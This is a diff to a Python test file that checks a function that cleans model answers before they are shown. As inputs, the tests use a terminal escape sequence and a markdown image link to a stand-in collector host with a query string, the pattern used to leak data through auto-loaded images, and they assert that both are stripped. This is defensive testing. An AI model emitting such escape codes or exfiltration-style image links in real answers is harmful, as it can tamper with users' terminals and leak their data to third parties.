@@ -201,9 +201,11 @@ def test_a_profile_without_documents_is_held_to_the_same(profile: Profile) -> No
     assert shown.startswith("Well.\n")
     assert shown.index("(The answer ends here") < 20
     shown, end = ended("A valve\x1b[2J, see ![x](https://collector.invalid/?q=what+is+a+valve).")
-    assert shown == "A valve, see [x] (an address is left out: it stands in no document)."
+    assert shown.startswith("A valve, see [x] (an address is left out: it stands in no document).")
     assert isinstance(end, Answer)
     assert end.text == shown
+    script = "```sh\ncurl https://valve.invalid/what/valve?page=2\n```"
+    assert ended(script)[0].startswith(script)  # nobody's words but the asker's were read
     assert "repeated itself" in ended("On and on. " * 3_000)[0]
     assert "too long" in ended(words(5_000))[0]
     assert isinstance(ended(" \u200b ")[1], ModelRefused)
